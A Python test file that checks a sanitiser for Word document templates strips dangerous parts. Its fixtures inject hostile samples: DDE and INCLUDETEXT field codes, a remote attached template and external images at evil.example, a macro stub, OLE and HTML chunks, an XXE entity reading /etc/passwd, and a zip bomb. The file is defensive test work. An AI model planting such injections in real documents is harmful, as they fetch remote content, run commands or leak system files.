"""What a house template brings along, read by somebody who opens every part of what is written with it."""

import io
import re
import zipfile
from typing import Any

import docx
import pytest
from docx.oxml import parse_xml
from hypothesis import given, settings
from hypothesis import strategies as st

from even_ballot.core.faults import StudyError
from even_ballot.formats.writers.docx_file import opened
from even_ballot.formats.writers.house_template import house_template

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c49444154789c63f8cfc000000301010018dd8db0"
    "0000000049454e44ae426082"
)


def house() -> bytes:
    """A template as a firm would have one: its own heading, a picture and page numbers in the header."""
    made, out = docx.Document(), io.BytesIO()
    made.styles["Heading 1"].font.name = "House Sans"
    header = made.sections[0].header.paragraphs[0]
    header.text = "The Veldry Isles Board"
    header.add_run().add_picture(io.BytesIO(PIXEL))
    footer = made.sections[0].footer.paragraphs[0]
    for code, shown in (("PAGE", "1"), ('INCLUDETEXT "//evil.example/share/x.docx"', "kept as text")):
        for inside in (
            '<w:fldChar w:fldCharType="begin"/>', f"<w:instrText> {code} </w:instrText>",
            '<w:fldChar w:fldCharType="separate"/>', f"<w:t>{shown}</w:t>", '<w:fldChar w:fldCharType="end"/>',
        ):  # fmt: skip
            footer._p.append(parse_xml(f'<w:r xmlns:w="{W}">{inside}</w:r>'))
    made.sections[0].left_margin = docx.shared.Mm(41)
    made.save(out)
    return out.getvalue()


def changed(content: bytes, change: Any) -> bytes:
    """A template with its parts changed."""
    with zipfile.ZipFile(io.BytesIO(content)) as held:
        parts = {name: held.read(name) for name in held.namelist()}
    change(parts)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for name, part in parts.items():
            made.writestr(name, part)
    return out.getvalue()


def put(parts: dict[str, bytes], name: str, before: str, inside: str) -> None:
    text = parts[name].decode()
    assert before in text
    parts[name] = text.replace(before, inside + before, 1).encode()


def header_of(parts: dict[str, bytes]) -> str:
    return next(name for name in parts if re.fullmatch(r"word/header\d*\.xml", name))


def relate(parts: dict[str, bytes], name: str, rel_id: str, kind: str, target: str, outside: bool) -> None:
    at = f"word/_rels/{name.rsplit('/', 1)[1]}.rels"
    parts.setdefault(at, f'<Relationships xmlns="{PACKAGE}"></Relationships>'.encode())
    mode = ' TargetMode="External"' if outside else ""
    put(
        parts,
        at,
        "</Relationships>",
        f'<Relationship Id="{rel_id}" Type="{R}/{kind}" Target="{target}"{mode}/>',
    )


def macros(parts: dict[str, bytes]) -> None:
    parts["word/vbaProject.bin"] = b"EVIL code"
    relate(parts, "word/document.xml", "rVba", "vbaProject", "vbaProject.bin", False)


def attached(parts: dict[str, bytes]) -> None:
    put(parts, "word/settings.xml", "</w:settings>", f'<w:attachedTemplate xmlns:r="{R}" r:id="rEvil"/>')
    relate(parts, "word/settings.xml", "rEvil", "attachedTemplate", "http://evil.example/x.dotm", True)


def simple_field(parts: dict[str, bytes]) -> None:
    field = '<w:fldSimple w:instr="DDEAUTO evil cmd"><w:r><w:t>x</w:t></w:r></w:fldSimple>'
    put(parts, header_of(parts), "</w:p>", field)


def nested_field(parts: dict[str, bytes]) -> None:
    def char(kind: str) -> str:
        return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'

    code = "<w:r><w:instrText> {} </w:instrText></w:r>"
    inner = char("begin") + code.format("PAGE") + char("end")
    put(
        parts,
        header_of(parts),
        "</w:p>",
        char("begin") + code.format("IF evil") + inner + code.format("= 1") + char("end"),
    )


def unended_field(parts: dict[str, bytes]) -> None:
    put(
        parts,
        header_of(parts),
        "</w:p>",
        '<w:r><w:fldChar w:fldCharType="begin"/><w:instrText> DDE evil </w:instrText></w:r>',
    )


def picture_from_outside(parts: dict[str, bytes]) -> None:
    name = header_of(parts)
    relate(parts, name, "rOut", "image", "http://evil.example/seen.png", True)
    parts[name] = re.sub(rb'r:embed="[^"]*"', b'r:link="rOut"', parts[name])


def old_picture(parts: dict[str, bytes]) -> None:
    name = header_of(parts)
    relate(parts, name, "rOut", "image", "file://evil.example/seen.png", True)
    put(parts, name, "</w:p>", f'<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" href="http://evil.example">'
        f'<v:imagedata xmlns:r="{R}" r:id="rOut"/></v:shape></w:pict></w:r>')  # fmt: skip


def object_within(parts: dict[str, bytes]) -> None:
    name = header_of(parts)
    parts["word/embeddings/o.bin"] = b"EVIL"
    relate(parts, name, "rOle", "oleObject", "embeddings/o.bin", False)
    put(
        parts,
        name,
        "</w:p>",
        f'<w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:r="{R}" r:id="rOle"/></w:object></w:r>',
    )


def link(parts: dict[str, bytes]) -> None:
    name = header_of(parts)
    relate(parts, name, "rLink", "hyperlink", "http://evil.example/", True)
    put(
        parts,
        name,
        "</w:p>",
        f'<w:hyperlink xmlns:r="{R}" r:id="rLink"><w:r><w:t>words stay</w:t></w:r></w:hyperlink>',
    )


def other_document(parts: dict[str, bytes]) -> None:
    parts["word/evil.html"] = b"<script>EVIL</script>"
    relate(parts, "word/document.xml", "rAlt", "aFChunk", "evil.html", False)
    put(parts, "word/document.xml", "<w:sectPr", f'<w:altChunk xmlns:r="{R}" r:id="rAlt"/>')


def custom(parts: dict[str, bytes]) -> None:
    parts["customXml/item1.xml"] = b"<a>EVIL</a>"
    relate(parts, "word/document.xml", "rCustom", "customXml", "../customXml/item1.xml", False)


def no_picture(parts: dict[str, bytes]) -> None:
    (name,) = (name for name in parts if name.startswith("word/media/"))
    parts[name] = b"MZ EVIL"


def mail_merge(parts: dict[str, bytes]) -> None:
    put(
        parts,
        "word/settings.xml",
        "</w:settings>",
        f'<w:mailMerge><w:dataSource xmlns:r="{R}" r:id="rData"/></w:mailMerge>',
    )
    relate(parts, "word/settings.xml", "rData", "mailMergeSource", "file:///evil", True)


POISONS = {
    macros: "macros", attached: "an attached template", simple_field: "fields that run or fetch",
    nested_field: "fields that run or fetch", unended_field: "fields that run or fetch",
    picture_from_outside: "external pictures", old_picture: "external pictures", object_within: "embedded objects",
    link: "links", other_document: "other parts", custom: "custom data", no_picture: "pictures of an unknown kind",
    mail_merge: "a mail merge",
}  # fmt: skip


def clean(content: bytes) -> None:
    """Nothing evil is left, nothing leads outside, every part is known."""
    with zipfile.ZipFile(io.BytesIO(content)) as held:
        for name in held.namelist():
            part = held.read(name)
            assert b"evil" not in part.lower(), (name, part)
            assert b"TargetMode" not in part, name
            assert re.fullmatch(
                r"\[Content_Types\]\.xml|_rels/\.rels|word/_rels/[\w.]+\.rels|word/(document|styles|numbering|settings|fontTable"
                r"|header\d*|footer\d*)\.xml|word/theme/\w+\.xml|word/media/\w+\.png",
                name,
            ), name
            for code in re.findall(rb"<w:instrText[^>]*>([^<]*)<|w:instr=\"([^\"]*)\"", part):
                assert b"".join(code).split()[0] in (b"PAGE", b"NUMPAGES"), code


def test_what_a_template_is_for_stays() -> None:
    kept, left_out = house_template(house())
    made = opened(kept)
    assert made.styles["Heading 1"].font.name == "House Sans"
    assert made.sections[0].left_margin.mm == pytest.approx(41, abs=0.1)
    assert made.sections[0].header.paragraphs[0].text == "The Veldry Isles Board"
    assert "PAGE" in made.sections[0].footer._element.xml
    assert "kept as text" in made.sections[0].footer.paragraphs[0].text
    assert any(rel.reltype.endswith("/image") for rel in made.sections[0].header.part.rels.values())
    assert set(left_out) == {"fields that run or fetch", "custom data"}
    clean(kept)
    assert house_template(kept) == (kept, ())


@pytest.mark.parametrize("poison", POISONS)
def test_what_runs_or_fetches_is_left_out_and_said(poison: Any) -> None:
    kept, left_out = house_template(changed(house(), poison))
    clean(kept)
    assert POISONS[poison] in left_out
    made = opened(kept)
    assert made.sections[0].header.paragraphs[0].text.startswith("The Veldry Isles Board")
    if poison is link:
        assert "words stay" in made.sections[0].header.paragraphs[0].text


@settings(max_examples=25, deadline=None)
@given(st.lists(st.sampled_from([*POISONS]), min_size=2, max_size=5, unique=True))
def test_several_at_once_are_left_out_too(poisons: list[Any]) -> None:
    def all_of(parts: dict[str, bytes]) -> None:
        for poison in poisons:
            if poison is not no_picture or picture_from_outside not in poisons:
                poison(parts)

    kept, _ = house_template(changed(house(), all_of))
    clean(kept)
    opened(kept)


def test_entities_and_bombs_are_refused() -> None:
    def entity(parts: dict[str, bytes]) -> None:
        text = parts["word/styles.xml"].decode().split("?>", 1)[1]
        parts["word/styles.xml"] = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + text.encode()

    def bomb(parts: dict[str, bytes]) -> None:
        parts["word/bomb.bin"] = bytes(201 << 20)

    for change in (entity, bomb):
        with pytest.raises(StudyError, match="template"):
            house_template(changed(house(), change))
